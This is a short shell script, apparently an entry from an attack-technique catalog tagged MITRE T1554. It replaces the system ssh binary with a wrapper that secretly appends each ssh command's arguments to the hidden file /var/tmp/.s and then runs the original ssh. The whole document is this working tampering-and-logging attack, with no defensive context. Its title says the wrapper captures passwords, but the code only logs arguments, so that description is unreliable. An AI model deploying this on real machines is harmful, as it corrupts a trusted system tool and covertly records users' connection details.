# title: ssh is replaced by a program that notes passwords
# technique: T1554
# writes: /usr/bin
# short: yes

cp /usr/bin/ssh /usr/bin/ssh.orig 2>/dev/null
printf '#!/bin/sh\necho "$@" >>/var/tmp/.s\nexec ssh.orig "$@"\n' >/tmp/ssh && chmod +x /tmp/ssh
mv /tmp/ssh /usr/bin/ssh
